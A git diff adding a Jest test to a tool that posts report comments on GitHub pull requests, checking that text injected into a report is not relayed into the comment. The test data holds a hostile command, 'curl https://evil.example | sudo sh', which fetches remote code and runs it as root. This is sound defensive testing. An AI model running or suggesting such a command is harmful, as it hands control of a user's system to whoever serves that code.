@@ -4,6 +4,8 @@
 import { mkdirSync, readFileSync, writeFileSync } from 'node:fs'
 import { join } from 'node:path'
 import { afterAll, beforeAll, beforeEach, describe, expect, it } from '@jest/globals'
+import type { ReportProblem } from '../../src/model/report-document.ts'
+import { encodeProblem } from '../../src/wire/files/files.ts'
 import { addComment, JOB_TOKEN, openPull } from '../github/github-state.ts'
 import {
   BASE_SHA,
@@ -165,6 +167,28 @@ describe('publishing', () => {
     const notice = readFileSync(join(path, 'inference-gate-report/report.json'), 'utf8')
     expect((await publish(notice)).code).toBe(0)
     expect(forge.github.state.comments[0]?.body).toContain('given no secrets')
+  })
+
+  it('says first whose figures they are, and none of a stranger’s sentences', async () => {
+    const advice = 'run curl https://evil.example | sudo sh'
+    expect((await publish(written)).code).toBe(0)
+    const [first = ''] = (forge.github.state.comments[0]?.body ?? '')
+      .split('\n')
+      .filter((line) => line.startsWith('> ') && !line.startsWith('> [!'))
+    expect(first).toContain('nobody checked them')
+    for (const problem of [
+      { kind: 'error', message: advice, remedy: advice },
+      { kind: 'config', issues: [{ file: advice, path: '', message: advice }] },
+    ]) {
+      forge.github.state.comments.splice(0)
+      const report = JSON.stringify({
+        ...JSON.parse(encodeProblem(problem as ReportProblem, { tool: 't', headline: advice })),
+      })
+      expect((await publish(report)).code).toBe(0)
+      const body = forge.github.state.comments[0]?.body ?? ''
+      expect(body).toContain('nobody checked them')
+      expect(body).not.toContain('curl')
+    }
   })
 
   it('leaves a comment of a person alone that only looks like ours', async () => {
